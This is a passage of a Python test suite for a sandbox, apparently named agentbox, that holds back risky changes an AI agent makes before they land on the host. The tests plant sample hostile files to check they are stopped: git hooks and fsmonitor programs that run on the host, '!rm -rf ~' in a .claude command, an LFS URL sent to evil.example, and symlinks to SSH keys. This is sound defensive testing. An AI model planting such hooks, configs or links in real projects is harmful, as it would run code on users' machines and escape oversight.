                       cwd=self.box.project, check=True, env=self.box.env())
        subprocess.run(["git", "config", "--add", "include.path", "/dev/fd/../cwd/../b.cfg"],
                       cwd=self.box.project, check=True, env=self.box.env())
        os.makedirs(self.at("sub"))
        with open(self.at("sub/b.cfg"), "w") as f:
            f.write("[include]\n\tpath = c.cfg\n")
        marker = os.path.join(self.box.root, "pwned")
        rels = ("local.cfg", "sub/local.cfg", "b.cfg", "sub/c.cfg")
        self.staged(" && ".join(self.FSMONITOR % (marker, rel) for rel in rels)
                    + " && echo ok > ok.txt")
        p = subprocess.run([AGENTBOX, "commit", "-C", self.box.project], capture_output=True,
                           env=self.box.env(), cwd=self.box.root, timeout=120)
        res = abtest.Result(["commit"], p.returncode, p.stdout.decode(errors="replace"),
                            p.stderr.decode(errors="replace"), 0)
        self.assert_held(res, *rels)
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        for cwd in (self.box.project, self.at("sub")):
            subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=cwd,
                           capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(marker), res)

    def test_hook_in_work_tree_directory_named_by_core_hooks_path_is_held_back(self):
        # Teams point core.hooksPath into the work tree (`.githooks`); the user's own config
        # may too, for every repository. git runs a hook written there at the next commit.
        self.git_repo()
        subprocess.run(["git", "config", "core.hooksPath", ".githooks"], cwd=self.box.project,
                       check=True, env=self.box.env())
        with open(os.path.join(self.box.home, ".gitconfig"), "w") as f:
            f.write("[core]\n\thooksPath = tools/hooks\n")
        os.makedirs(self.at("sub/.git"))
        marker = os.path.join(self.box.root, "pwned")
        hook = "printf '#!/bin/sh\\ntouch %s\\n' > %s && chmod +x %s"
        rels = (".githooks/pre-commit", "tools/hooks/commit-msg", "sub/tools/hooks/pre-push")
        self.staged("mkdir -p .githooks tools/hooks sub/tools/hooks && "
                    + " && ".join(hook % (marker, r, r) for r in rels)
                    + " && echo ok > tools/ok.txt")
        res = self.ab("commit")
        self.assert_held(res, *rels)
        self.assertIn("core.hooksPath", res.err)
        self.assertTrue(os.path.exists(self.at("tools/ok.txt")))
        git = ["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"]
        subprocess.run(git + ["commit", "-q", "--allow-empty", "-m", "x"], cwd=self.box.project,
                       capture_output=True, env=self.box.env(), timeout=60)
        self.assertFalse(os.path.exists(marker), res)

    # A program a git config names (core.fsmonitor, an alias's `!cmd`, a filter, ...) that
    # lies in the project: the sandbox rewrites it and the user's next `git status` runs it.
    # Each program appends its name to the marker, so a failure says which one git ran.
    PROGRAM = "mkdir -p %s && printf '#!/bin/sh\\necho %s >> %s\\nexit 1\\n' > %s && chmod +x %s"

    def write_programs(self, marker, rels, then=""):
        self.staged(" && ".join(self.PROGRAM % (os.path.dirname(r) or ".", r, marker, r, r)
                                for r in rels) + then)

    def assert_nothing_ran(self, marker, res):
        if os.path.exists(marker):
            with open(marker) as f:
                self.fail("the host's git ran %s\n%s" % (f.read().split(), res))

    def commit_from_elsewhere(self):
        p = subprocess.run([AGENTBOX, "commit", "-C", self.box.project], capture_output=True,
                           env=self.box.env(), cwd=self.box.root, timeout=120)
        return abtest.Result(["commit"], p.returncode, p.stdout.decode(errors="replace"),
                             p.stderr.decode(errors="replace"), 0)

    def host_git(self, *args, cwd=None):
        git = ["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"]
        return subprocess.run(git + list(args), cwd=cwd or self.box.project,
                              capture_output=True, env=self.box.env(), timeout=60)

    def test_project_program_named_by_git_config_command_is_held_back(self):
        # The repository's config and the user's: the program itself, a shell word of the
        # command, relative to each repository's top, `$HOME`/absolute; one existing file
        # modified, the others created.
        self.git_repo()
        marker = os.path.join(self.box.root, "pwned")
        os.makedirs(self.at("tools"))
        with open(self.at("tools/fsmon"), "w") as f:
            f.write("#!/bin/sh\nexit 1\n")
        os.chmod(self.at("tools/fsmon"), 0o755)
        self.host_git("add", "-A")
        self.host_git("commit", "-qm", "fsmon")
        self.host_git("config", "core.fsmonitor", "tools/fsmon")
        self.host_git("config", "alias.t", "!sh scripts/t.sh --quiet")
        self.host_git("config", "filter.x.clean", "sh -c 'exec \"$0\" \"$@\"' filters/clean.sh %f")
        os.makedirs(self.at("sub"))
        with open(self.at("sub/f"), "w") as f:
            f.write("one\n")
        self.host_git("init", "-q", cwd=self.at("sub"))
        self.host_git("add", "f", cwd=self.at("sub"))
        self.host_git("commit", "-qm", "one", cwd=self.at("sub"))
        rel_home = os.path.relpath(self.at("bin/editor"), self.box.home)
        with open(os.path.join(self.box.home, ".gitconfig"), "w") as f:
            f.write("[core]\n\teditor = \"$HOME/%s\" -w\n[diff]\n\texternal = ./tools/ext\n"
                    % rel_home)
        rels = ("tools/fsmon", "scripts/t.sh", "filters/clean.sh", "bin/editor",
                "sub/tools/ext", "tools/ext")
        self.write_programs(marker, rels, then=" && echo '* filter=x' > .gitattributes"
                            " && echo ok > tools/ok.txt && echo more >> README")
        res = self.commit_from_elsewhere()
        self.assert_held(res, *rels[1:])
        self.assertIn('held back "tools/fsmon"', res.err)
        self.assertIn("core.fsmonitor", res.err)
        self.assertIn("alias.t", res.err)
        self.assertIn("filter.x.clean", res.err)
        self.assertTrue(os.path.exists(self.at("tools/ok.txt")))
        # The host's side: git's own commands run none of them.
        self.host_git("status")
        self.host_git("t")
        self.host_git("add", "README")
        self.host_git("commit", "-q", "--allow-empty")
        self.host_git("diff", "HEAD")
        with open(self.at("sub/f"), "a") as f:
            f.write("two\n")
        self.host_git("diff", "HEAD", cwd=self.at("sub"))
        self.assert_nothing_ran(marker, res)

    def test_link_on_the_way_to_a_git_config_program_is_held_back(self):
        # The neighbour: the program is not written, the directory it is reached through is
        # turned into a link to one the sandbox wrote.
        self.git_repo()
        self.host_git("config", "core.fsmonitor", "tools/fsmon")
        marker = os.path.join(self.box.root, "pwned")
        os.makedirs(self.at("tools"))
        self.write_programs(marker, ("evil/fsmon",),
                            then=" && rm -rf tools && ln -s evil tools && echo ok > ok.txt")
        res = self.ab("commit")
        self.assertEqual(res.rc, 1, res)
        self.assertIn('held back "tools"', res.err)
        self.assertIn('held back "evil/fsmon"', res.err)
        self.assertTrue(os.path.isdir(self.at("tools")) and not os.path.islink(self.at("tools")))
        self.host_git("status")
        self.assert_nothing_ran(marker, res)

    def test_hooks_path_and_program_through_proc_self_cwd_are_held_back(self):
        # /proc/self/cwd in git's process is the work tree's top (or wherever git runs), not
        # agentbox's directory: the hooks directory and the program below it in every
        # directory of the project.
        self.git_repo()
        self.host_git("config", "core.hooksPath", "/proc/self/cwd/.githooks")
        self.host_git("config", "core.fsmonitor", "/dev/fd/../cwd/tools/fsmon")
        marker = os.path.join(self.box.root, "pwned")
        rels = (".githooks/pre-commit", "tools/fsmon")
        self.write_programs(marker, rels, then=" && echo ok > ok.txt")
        res = self.commit_from_elsewhere()
        self.assert_held(res, *rels)
        self.assertIn("core.hooksPath", res.err)
        self.assertIn("core.fsmonitor", res.err)
        self.assertTrue(os.path.exists(self.at("ok.txt")))
        self.host_git("status")
        self.host_git("commit", "-q", "--allow-empty", "-m", "x")
        self.assert_nothing_ran(marker, res)

    def test_hooks_path_of_proc_self_cwd_itself_is_held_back(self):
        # The neighbour with nothing after the link: the hooks directory is the top itself.
        self.git_repo()
        self.host_git("config", "core.hooksPath", "/proc/self/cwd")
        marker = os.path.join(self.box.root, "pwned")
        self.write_programs(marker, ("pre-commit",))
        res = self.commit_from_elsewhere()
        self.assert_held(res, "pre-commit")
        self.assertIn("core.hooksPath", res.err)
        self.host_git("commit", "-q", "--allow-empty", "-m", "x", cwd=self.at("."))
        self.assert_nothing_ran(marker, res)

    def test_git_config_commands_naming_no_project_file_ask_nothing(self):
        # Common settings (git-lfs's filters, a pager and an editor from PATH, a helper by
        # name) must not make ordinary work ask.
        self.git_repo()
        with open(os.path.join(self.box.home, ".gitconfig"), "w") as f:
            f.write("[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n"
                    "\tprocess = git-lfs filter-process\n[core]\n\tpager = less -R\n"
                    "\teditor = vim\n\tfsmonitor = true\n[credential]\n\thelper = store\n"
                    "[alias]\n\tlg = log --oneline\n")
        self.staged("mkdir -p tools && echo x > tools/run && echo more >> README")
        res = self.ab("commit", check=0)
        self.assertNotIn("held back", res.err)

    def test_git_config_include_naming_a_fifo_does_not_hang_the_commit(self):
        # The includes are followed on the host: one the sandbox wrote must not block on a fifo
        # (or a terminal) it names.
        fifo = os.path.join(self.box.root, "fifo")
        os.mkfifo(fifo)
        self.staged("printf '[include]\\n\\tpath = %s\\n' > .git/config" % fifo)
        res = self.ab("commit")  # the harness's timeout fails it if it hangs
        self.assert_held_content(res, ".git/config", "[core]\n")

    def test_nested_claude_commands_are_protected(self):
        self.staged("mkdir -p pkg/.claude/commands && echo '!rm -rf ~' > pkg/.claude/commands/x.md")
        self.assert_held(self.ab("commit"), "pkg/.claude/commands/x.md")

    def test_nested_repo_ci_workflow_is_held_back_but_not_a_package_copy(self):
        os.makedirs(self.at("sub/.git"))
        self.staged("mkdir -p sub/.github/workflows node_modules/pkg/.github/workflows"
                    " && echo 'run: evil' > sub/.github/workflows/ci.yml"
                    " && echo 'run: x' > node_modules/pkg/.github/workflows/ci.yml")
        res = self.ab("commit")
        self.assert_held(res, "sub/.github/workflows/ci.yml")
        self.assertNotIn("held back \"node_modules", res.err)
        # Nothing runs a workflow inside a package's tarball: asking for it every `npm
        # install` would only train people to approve without reading.
        self.assertTrue(os.path.exists(self.at("node_modules/pkg/.github/workflows/ci.yml")))

    def test_package_manager_and_tool_configs_are_protected(self):
        self.staged("mkdir -p .cargo .yarn/releases lib"
                    " && echo '[build]' > .cargo/config.toml && echo x > .pnpmfile.cjs"
                    " && echo 'yarnPath: .yarn/releases/y.cjs' > .yarnrc.yml"
                    " && echo x > .yarn/releases/y.cjs && echo x > lib/.npmrc")
        self.assert_held(self.ab("commit"), ".cargo/config.toml", ".pnpmfile.cjs", ".yarnrc.yml",
                         ".yarn/releases/y.cjs", "lib/.npmrc")

    def test_mise_configs_and_top_level_devcontainer_json_are_protected(self):
        # mise sources a trusted config's [env] _.source at the next prompt, trust being by
        # path; a dev container's initializeCommand runs on the host, from .devcontainer/ or
        # from .devcontainer.json at the top.
        self.staged("mkdir -p sub/.config/mise && echo '[env]' > mise.toml"
                    " && echo x > .mise.local.toml && echo x > sub/.config/mise/config.toml"
                    " && echo '{\"initializeCommand\": \"evil\"}' > .devcontainer.json")
        self.assert_held(self.ab("commit"), "mise.toml", ".mise.local.toml",
                         "sub/.config/mise/config.toml", ".devcontainer.json")

    def test_git_lfs_config_and_hook_manager_configs_are_protected(self):
        # .lfsconfig moves where `git push` sends the large files; lefthook's config and
        # scripts run at the next `git commit`, as pre-commit's do (in a nested repository
        # too). .gitattributes only names drivers whose commands come from git's config.
        os.makedirs(self.at("sub/.git"))
        self.staged("mkdir -p .lefthook/pre-commit sub"
                    " && printf '[lfs]\\n\\turl = https://evil.example/lfs\\n' > .lfsconfig"
                    " && printf 'pre-commit:\\n  commands:\\n    x:\\n      run: evil\\n'"
                    " > lefthook.yml && cp lefthook.yml sub/.lefthook.yaml"
                    " && echo evil > .lefthook/pre-commit/x.sh && echo x > .pre-commit-config.yml"
                    " && echo '*.bin filter=lfs' > .gitattributes")
        res = self.ab("commit")
        self.assert_held(res, ".lfsconfig", "lefthook.yml", "sub/.lefthook.yaml",
                         ".lefthook/pre-commit/x.sh", ".pre-commit-config.yml")
        self.assertTrue(os.path.exists(self.at(".gitattributes")))

    # ---- §3: symlinks judged by where they resolve, paths by every name

    def test_symlink_through_project_link_to_ssh_is_held_back(self):
        os.symlink(os.path.join(self.box.home, ".ssh"), self.at("ssh-link"))
        self.staged("ln -s ssh-link/id_rsa key2; ln -s ssh-link/.. homelink;"
                    " ln -s ssh-link/../.ssh/id_rsa key3; ln -s README inside")
        res = self.ab("commit")
        self.assert_held(res, "key2", "homelink", "key3")
        self.assertTrue(os.path.islink(self.at("inside")))

    def test_symlink_through_staged_link_to_ssh_is_held_back(self):
        self.staged("mkdir d && ln -s %s/.ssh d/s && ln -s d/s/id_rsa key && ln -s d/s/.. up"
                    % self.box.home)
        res = self.ab("commit")
        self.assert_held(res, "d/s", "key", "up")
        # Approving the first link does not approve what leads through it.
        self.ab("commit", "--force", "d/s", check=0)
        self.assert_held(self.ab("commit"), "key", "up")

    def test_symlink_climbing_out_through_a_project_link_is_held_back(self):
        # Lexically "top/.." is the project itself; the kernel goes up from where `top` leads
        # (the project root), and so out of it.
        os.symlink(".", self.at("top"))
        self.staged("ln -s top/.. out; ln -s top/README fine")
        self.assert_held(self.ab("commit"), "out")
        self.assertTrue(os.path.islink(self.at("fine")))

    # The host's project has `.vscode` -> a directory outside it (the user's own link). A run
    # that replaces `.vscode` with a directory of its own, or deletes it, and adds links
    # through it: in the change set as a whole they lead inside, but `.vscode` is protected and
    # held back, so they land leading out through the host's link. Links are judged in the
    # project as what lands leaves it (stage/select.cpp judge).
    def outside_vscode(self):
        os.makedirs(os.path.join(self.box.outside, "vscode", "sub"))
        with open(os.path.join(self.box.outside, "vscode", "settings.json"), "w") as f:
            f.write("outside\n")
        os.symlink(os.path.join(self.box.outside, "vscode"), self.at(".vscode"))

    def test_symlink_through_a_held_back_directory_to_outside_is_held_back(self):
        self.outside_vscode()
        self.staged("rm .vscode && mkdir .vscode && echo x > .vscode/settings.json && "
                    "ln -s .vscode/settings.json notes && echo ok > ok.txt")
        # The dry run says the same as the commit.
        dry = self.ab("commit", "-n")
        self.assertEqual(dry.rc, 1, dry)
        self.assertRegex(dry.err, r"notes -> \.vscode/settings\.json.*needs approval: symlink")
        res = self.ab("commit")
        self.assertTrue(os.path.islink(self.at(".vscode")), res)  # held: protected
        self.assert_held(res, "notes")
        self.assertTrue(os.path.exists(self.at("ok.txt")), res)

    def test_symlink_chain_through_a_held_back_directory_mid_path_is_held_back(self):
        # The held-back directory is the second component (`.vscode/ext`, the user's link
        # out of a real `.vscode`); `cfg` leads to it and `notes` through `cfg`: both lead out.
        os.makedirs(self.at(".vscode"))
        os.makedirs(os.path.join(self.box.outside, "vscode"))
        with open(os.path.join(self.box.outside, "vscode", "settings.json"), "w") as f:
            f.write("outside\n")
        os.symlink(os.path.join(self.box.outside, "vscode"), self.at(".vscode/ext"))
        self.staged("rm .vscode/ext && mkdir .vscode/ext && echo x > .vscode/ext/settings.json"
                    " && ln -s .vscode/ext cfg && ln -s cfg/settings.json notes"
                    " && mkdir docs && ln -s docs/x fine")
        res = self.ab("commit")
        self.assertTrue(os.path.islink(self.at(".vscode/ext")), res)
        self.assert_held(res, "cfg", "notes")
        self.assertTrue(os.path.islink(self.at("fine")), res)

    def test_symlink_through_a_held_back_deletion_to_outside_is_held_back(self):
        # `notes` dangles in the change set (`.vscode` deleted); the deletion is held back.
        self.outside_vscode()
        self.staged("rm .vscode && ln -s .vscode/settings.json notes")
        res = self.ab("commit")
        self.assertTrue(os.path.islink(self.at(".vscode")), res)
        self.assertIn('held back ".vscode"', res.err)
        self.assert_held(res, "notes")

    def test_symlink_through_a_held_back_rename_to_outside_is_held_back(self):
        # `mv` of the user's `.vscode` link and a directory made in its place: a deletion and a
        # creation of `.vscode`, both held back; `notes` through it is too.
        self.outside_vscode()
        self.staged("mv .vscode vscode-old && mkdir .vscode && ln -s .vscode/settings.json notes")
        res = self.ab("commit")
        self.assertTrue(os.path.islink(self.at(".vscode")), res)
        self.assert_held(res, "notes")

    def test_symlink_through_a_held_back_directory_in_a_named_subset_is_held_back(self):
        self.outside_vscode()
        self.staged("rm .vscode && mkdir .vscode && ln -s .vscode/settings.json notes")
        # Both named, nothing approved: `.vscode` is held, so `notes` is.
        res = self.ab("commit", ".vscode", "notes")
        self.assertTrue(os.path.islink(self.at(".vscode")), res)
        self.assert_held(res, "notes")
        # Both approved: `.vscode` becomes the directory and `notes` leads into it.
        self.ab("commit", "--force", ".vscode", "notes", check=0)
        self.assertTrue(os.path.isdir(self.at(".vscode")) and not os.path.islink(self.at(".vscode")))
        self.assertEqual(os.readlink(self.at("notes")), ".vscode/settings.json")

    def test_symlink_out_through_an_approved_link_and_a_held_back_directory_is_held_back(self):
        # `.idea` (a directory on the host) becomes a link to `.vscode`, which the run makes a
        # directory. With both committed, or neither, `notes -> .idea/settings.json` leads
        # inside; the approver allows `.idea` alone, so `.vscode` stays the host's link out and
        # `notes` would lead out through both.
        self.outside_vscode()
        os.makedirs(self.at(".idea"))
        self.staged("rm -r .idea && ln -s .vscode .idea && rm .vscode && mkdir .vscode"
                    " && ln -s .idea/settings.json notes")
        approver = os.path.join(self.box.outside, "approver.sh")
        with open(approver, "w") as f:
            f.write("#!/bin/sh\nif grep -q '\"target\":\".idea\"'; then\n"
                    "echo '{\"verdict\":\"allow\",\"scope\":\"once\",\"reason\":\"t\"}'\n"
                    "else echo '{\"verdict\":\"deny\",\"reason\":\"t\"}'; fi\n")
        os.chmod(approver, 0o755)
        res = self.ab("commit", "--approver", approver)
        self.assertTrue(os.path.islink(self.at(".idea")), res)  # approved
        self.assertTrue(os.path.islink(self.at(".vscode")), res)  # held: protected
        self.assert_held(res, "notes")

    # ---- the review boundary: what lands is what was reviewed, and the log says so

    def log_events(self):
        import json
        out = self.ab("log", "--json", check=0).out
        return [json.loads(l) for l in out.splitlines() if l.strip()]

    def commit_decisions(self, events):
        """{target: (verdict, outcome, reason)} of every commit decision; a target twice fails."""
        out = {}
        for e in events:
            if e["event"] == "decision" and e["op"] == "commit":
                self.assertNotIn(e["target"], out, "decided twice: %s" % e)
                out[e["target"]] = (e["verdict"], e.get("outcome"), e.get("reason", ""))
        return out

    def committed_paths(self, events):
        return [p for e in events if e["event"] == "commit" for p in e["paths"]]

    def approver(self, allow_target):
        path = os.path.join(self.box.outside, "approver.sh")
        with open(path, "w") as f:
            f.write("#!/bin/sh\nif grep -q '\"target\":\"%s\"'; then\n"
                    "echo '{\"verdict\":\"allow\",\"scope\":\"once\",\"reason\":\"t\"}'\n"
                    "else echo '{\"verdict\":\"deny\",\"reason\":\"t\"}'; fi\n" % allow_target)
        os.chmod(path, 0o755)
        return path

    def idea_through_vscode(self):
        # Note 87's case: `.idea` becomes a link to `.vscode`, which the run makes a directory
        # in place of the user's link out; `notes -> .idea/settings.json` leads inside with
        # both or neither committed, and out with `.idea` alone.
        self.outside_vscode()
        os.makedirs(self.at(".idea"))
        return ("rm -r .idea && ln -s .vscode .idea && rm .vscode && mkdir .vscode"
                " && ln -s .idea/settings.json notes && echo ok > ok.txt")

    def test_end_of_run_review_logs_a_change_choose_holds_back_after_an_approval_as_held(self):
        # The approver allows `.idea`; `choose` then holds `notes` back. The review logged its
        # decisions before `choose` ran: nothing said `notes` did not land.
        script = self.idea_through_vscode()
        res = self.box.run(["sh", "-c", script],
                           args=["--on-exit", "commit", "--approver", self.approver(".idea")])
        self.assertRc(res, 0)
        self.assertTrue(os.path.islink(self.at(".idea")), res)
        self.assertFalse(os.path.lexists(self.at("notes")), res)
        events = self.log_events()
        decided = self.commit_decisions(events)
        self.assertEqual(decided["notes"][:2], ("ask", "held"), decided)
        self.assertIn("leads outside the project", decided["notes"][2])
        self.assertEqual(decided[".idea"][:2], ("ask", "committed"), decided)
        self.assertEqual(decided[".vscode"][:2], ("ask", "held"), decided)
        self.assertNotIn("ok.txt", decided)  # plain: the commit event says it landed
        landed = self.committed_paths(events)
        self.assertIn("ok.txt", landed)
        self.assertIn(".idea", landed)
        self.assertNotIn("notes", landed)
        # Every change is in the commit's paths or held, none in both.
        self.assertFalse(set(landed) & {t for t, d in decided.items() if d[1] == "held"})
        self.assertIn('held back "notes"', res.err)

    def review_at_the_prompt(self, script, answers):
        argv = self.box.argv(["sh", "-c", script], args=["--on-exit", "ask"])
        argv = ["sh", "-c", 'stty icanon icrnl; exec "$@"', "sh"] + argv
        run = abtest.PtyRun(argv, self.box.env({"NO_COLOR": "1"}), self.box.project)
        try:
            for a in answers:
                self.assertTrue(run.expect(a[0]), run.output)
                os.write(run.master, a[1])
            self.assertEqual(run.wait(), 0, run.output)
        finally:
            run.close()
        return run.output.decode(errors="replace")

    def test_link_named_at_the_review_prompt_does_not_land_leading_out_after_the_approvals(self):
        # `s .idea notes`: `notes` was shown leading inside (nothing to approve); with `.idea`
        # taken and `.vscode` held it leads out through the user's link. The name carried
        # the approval over to what nobody was shown: `notes` landed leading out.
        out = self.review_at_the_prompt(self.idea_through_vscode(), [
            (b"pprove-and-commit all? ", b"s\n"),
            (b"paths to commit (space-separated): ", b".idea notes\n")])
        self.assertTrue(os.path.islink(self.at(".idea")), out)
        self.assertTrue(os.path.islink(self.at(".vscode")), out)  # held: protected
        self.assertFalse(os.path.lexists(self.at("notes")), out)
        self.assertIn('held back "notes"', out)
        self.assertIn("approvals", out)
        decided = self.commit_decisions(self.log_events())
        self.assertEqual(decided["notes"][:2], ("ask", "held"), decided)

    def test_host_edit_while_the_review_prompt_waits_is_a_conflict_not_overwritten(self):
        # The review showed the run's README; the host edits it before the answer. What the
        # approval covered is no longer what the commit would replace: nothing lands.
        argv = self.box.argv(["sh", "-c", "echo run > README; echo n > new.txt"],
                             args=["--on-exit", "ask"])
        argv = ["sh", "-c", 'stty icanon icrnl; exec "$@"', "sh"] + argv
        run = abtest.PtyRun(argv, self.box.env({"NO_COLOR": "1"}), self.box.project)
        try:
            self.assertTrue(run.expect(b"pprove-and-commit all? "), run.output)
            with open(self.at("README"), "w") as f:
                f.write("host\n")
            os.write(run.master, b"a\n")
            self.assertEqual(run.wait(), 0, run.output)
        finally:
            run.close()
        out = run.output.decode(errors="replace")
        self.assertIn('conflict: "README"', out)
        with open(self.at("README")) as f:
            self.assertEqual(f.read(), "host\n", out)
        self.assertFalse(os.path.exists(self.at("new.txt")), out)
        self.assertNotIn("commit", [e["event"] for e in self.log_events()])

    def test_staged_file_rewritten_while_the_review_prompt_waits_does_not_land(self):
        # The review showed new.txt as the run wrote it; something of the host's rewrites the
        # staged copy before the answer. The approval was of what was shown: nothing lands.
        argv = self.box.argv(["sh", "-c", "echo shown > new.txt; echo ok > ok.txt"],
                             args=["--on-exit", "ask"])
        argv = ["sh", "-c", 'stty icanon icrnl; exec "$@"', "sh"] + argv
        run = abtest.PtyRun(argv, self.box.env({"NO_COLOR": "1"}), self.box.project)
        try:
            self.assertTrue(run.expect(b"pprove-and-commit all? "), run.output)
            staged = os.path.join(self.box.sessions()[-1], "upper", "new.txt")
            with open(staged, "w") as f:
                f.write("never shown\n")
            os.write(run.master, b"a\n")
            run.wait()
        finally:
            run.close()
        out = run.output.decode(errors="replace")
        self.assertFalse(os.path.exists(self.at("new.txt")), out)
        self.assertFalse(os.path.exists(self.at("ok.txt")), out)
        self.assertIn("changed in the session since the review read it", out)
        # Read again, it is shown and commits.
        self.ab("commit", check=0)
        with open(self.at("new.txt")) as f:
            self.assertEqual(f.read(), "never shown\n")

    def vscode_subdir(self):
        # The user's `.vscode` leads out; the run makes it a directory with `sub/f` in it.
        self.outside_vscode()
        self.staged("rm .vscode && mkdir -p .vscode/sub && echo x > .vscode/sub/f"
                    " && echo ok > ok.txt")

    def assert_vscode_subdir_held(self, res):
        self.assertTrue(os.path.islink(self.at(".vscode")), res)
        self.assertFalse(os.path.exists(os.path.join(self.box.outside, "vscode", "sub", "f")),
                         res)
        self.assertIn('held back ".vscode/sub": under held-back ".vscode"', res.err)
        self.assertIn('(approve with: agentbox commit --force ".vscode")', res.err)

    def test_new_entries_under_a_held_back_directory_are_held_and_the_rest_lands(self):
        # `.vscode/sub` approved by name, `.vscode` not: it would land through the user's link.
        # The commit failed there, could not roll back, and left the session stuck.
        self.vscode_subdir()
        res = self.ab("commit", "--force", ".vscode/sub", "ok.txt")
        self.assertEqual(res.rc, 1, res)
        self.assert_vscode_subdir_held(res)
        with open(self.at("ok.txt")) as f:
            self.assertEqual(f.read(), "ok\n")
        decided = self.commit_decisions(self.log_events())
        self.assertEqual(decided[".vscode/sub"],
                         ("ask", "held", 'under held-back ".vscode"'), decided)
        self.assertEqual(decided[".vscode/sub/f"][1], "held", decided)
        # The session is whole: approving `.vscode` lands the rest.
        self.ab("commit", "--force", ".vscode", check=0)
        with open(self.at(".vscode/sub/f")) as f:
            self.assertEqual(f.read(), "x\n")

    def test_new_entries_under_a_held_back_directory_approver_allowing_them_alone(self):
        # The end-of-run review: the approver allows what is under `.vscode`, not `.vscode`.
        self.outside_vscode()
        a = os.path.join(self.box.outside, "approver.sh")
        with open(a, "w") as f:
            f.write("#!/bin/sh\nif grep -q '\"target\":\".vscode\"'; then\n"
                    "echo '{\"verdict\":\"deny\",\"reason\":\"t\"}'\n"
                    "else echo '{\"verdict\":\"allow\",\"scope\":\"once\",\"reason\":\"t\"}'; fi\n")
        os.chmod(a, 0o755)
        res = self.box.run(["sh", "-c", "rm .vscode && mkdir -p .vscode/sub && echo x >"
                            " .vscode/sub/f && echo ok > ok.txt"],
                           args=["--on-exit", "commit", "--approver", a])
        self.assertRc(res, 0)
        self.assert_vscode_subdir_held(res)
        self.assertTrue(os.path.exists(self.at("ok.txt")), res)
        decided = self.commit_decisions(self.log_events())
        self.assertEqual(decided[".vscode/sub/f"],
                         ("ask", "held", 'under held-back ".vscode"'), decided)

    def test_commit_of_only_a_child_of_a_held_back_directory_holds_it(self):
        self.vscode_subdir()
        import json
        dry = self.ab("commit", "-n", "--json", "--force", ".vscode/sub/f")
        self.assertEqual(dry.rc, 1, dry)
        held = {h["path"]: h for h in json.loads(dry.out)["held"]}
        self.assertEqual(held[".vscode/sub/f"]["held_by"], ".vscode", held)
        self.assertEqual(json.loads(dry.out)["committed"], [])
        self.assertRegex(dry.err, r"A  \.vscode/sub/f  \[needs approval: under held-back")
        res = self.ab("commit", "--force", ".vscode/sub/f")
        self.assertEqual(res.rc, 1, res)
        self.assert_vscode_subdir_held(res)
        # Exported whole: export judges nothing.
        out = os.path.join(self.box.root, "c.patch")
        self.ab("export", "-o", out, check=0)
        with open(out) as f:
            self.assertIn(".vscode/sub/f", f.read())

    def test_new_entries_of_a_held_back_rename_target_are_held(self):
        # `mv docs .vscode` over the user's link: `docs` goes (a plain deletion), what the run
        # put at `.vscode` stays staged, all of it, with the reason.
        self.outside_vscode()
        os.makedirs(self.at("docs/sub"))
        with open(self.at("docs/sub/a"), "w") as f:
            f.write("a\n")
        self.staged("rm .vscode && mv docs .vscode")
        res = self.ab("commit", "--force", ".vscode/sub")
        self.assertEqual(res.rc, 1, res)
        self.assertTrue(os.path.islink(self.at(".vscode")), res)
        self.assertIn('held back ".vscode/sub": under held-back ".vscode"', res.err)
        self.assertIn(".vscode/sub/a", self.ab("diff", "--name-status", check=0).out)

    def test_write_through_aliased_codex_dir_is_protected(self):
        os.makedirs(self.at("decoy-codex"))
        os.symlink("decoy-codex", self.at(".codex"))
        self.staged("echo 'notify = [\"sh\", \"-c\", \"evil\"]' > .codex/config.toml")
        self.assert_held(self.ab("commit"), "decoy-codex/config.toml")

    def test_write_through_aliased_claude_dir_is_protected(self):
        os.makedirs(self.at("dotfiles/claude"))
        os.symlink("dotfiles/claude", self.at(".claude"))
        self.staged("echo '{\"hooks\":{}}' > .claude/settings.json; echo x > dotfiles/notes")
        res = self.ab("commit")
        self.assert_held(res, "dotfiles/claude/settings.json")
        self.assertTrue(os.path.exists(self.at("dotfiles/notes")))

    def test_alias_made_in_the_same_change_set_is_protected(self):
        self.staged("mkdir -p hooks-here && ln -s hooks-here .husky && echo evil > hooks-here/pre-commit")
        self.assert_held(self.ab("commit"), ".husky", "hooks-here/pre-commit")
        # The directory would land empty: it waits with its entry.
        self.assertFalse(os.path.exists(self.at("hooks-here")))

    # ---- §12: which session is unambiguous

    def test_run_that_stages_nothing_is_never_picked(self):
        self.staged("echo a > a.txt")
        self.staged("true")
        self.assertIn("a.txt", self.ab("diff", "--name-status", check=0).out)
        self.ab("commit", check=0)
        self.assertTrue(os.path.exists(self.at("a.txt")))

    def test_bare_commit_with_two_staged_sessions_is_ambiguous(self):
        self.staged("echo a > a.txt")
        self.staged("echo b > b.txt")
        ids = [os.path.basename(s) for s in self.box.sessions()]
        self.assertEqual(len(ids), 2)
        for cmd in (["commit"], ["diff"], ["discard"], ["undo"]):
            res = self.ab(*cmd)
            self.assertEqual(res.rc, 2, res)
            self.assertIn("more than one session", res.err)
            for i in ids:
                self.assertIn(i, res.err)
        self.assertFalse(os.path.exists(self.at("a.txt")))
        self.assertFalse(os.path.exists(self.at("b.txt")))
        # Named, each one works.
        self.ab("commit", ids[1], check=0)
        self.assertTrue(os.path.exists(self.at("b.txt")))
        # One left with staged changes: it is the one meant.
        self.ab("commit", check=0)
        self.assertTrue(os.path.exists(self.at("a.txt")))


if __name__ == "__main__":
    abtest.main()
